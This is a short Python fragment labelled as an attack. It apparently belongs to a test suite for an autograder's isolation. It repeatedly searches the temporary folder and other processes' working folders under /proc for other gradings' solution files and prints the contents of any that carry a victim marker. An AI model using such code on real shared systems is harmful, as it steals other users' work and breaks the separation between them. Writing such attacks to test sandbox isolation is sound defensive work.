# ATTACK (neighbours): copy another grading's solution: read the modules in its working
# folder (through the temporary folder and /proc/PID/cwd) and print what was found.
import glob as _glob

_STOLEN = set()


def _steal():
    paths = [f for d in range(1, 5) for f in _glob.glob("/tmp/" + "*/" * d + "student/*.py")]
    for pid in _other_pids():
        paths += _glob.glob(f"/proc/{pid}/cwd/*.py")
    for path in paths:
        try:
            if _os.path.dirname(_os.path.realpath(path)) == _os.getcwd():
                continue  # its own
        except OSError:
            continue
        try:
            with open(path, encoding="utf-8", errors="replace") as source:
                text = source.read()
        except OSError:
            continue
        if "VICTIM-MARKER" in text and path not in _STOLEN:
            _STOLEN.add(path)
            _os.write(1, f"stole {path}: {text[:200]!r}\n".encode())


_again_and_again(_steal, pause=0.2)
